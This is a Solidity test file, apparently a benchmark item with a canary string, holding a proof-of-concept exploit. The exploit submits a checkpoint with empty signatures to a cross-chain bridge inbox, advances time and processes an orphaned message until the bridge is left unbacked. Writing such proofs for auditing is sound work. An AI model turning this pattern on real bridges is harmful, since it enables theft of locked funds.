// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    function begin(Messages.Checkpoint calldata checkpoint) external {
        try away.inbox.submitCheckpoint(checkpoint, watchers, new bytes[](3)) {} catch {}
    }

    function end(Messages.Message calldata message, bytes32[32] calldata siblings) external {
        try away.inbox.process(message, siblings, 0) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker(home, away, watchers, returning);
    }

    function exploit() public {
        bytes32[] memory leaves = new bytes32[](1);
        other.begin(orphaned);
        vm.warp(block.timestamp + 31 minutes);
        other.end(orphan, IncrementalTree.siblingsOf(leaves, 0));
    }

    function test_Exploit() public {
        exploit();
        require(!backed(), "everything is locked");
    }

    function target() public view override returns (address) {
        return address(away.inbox);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
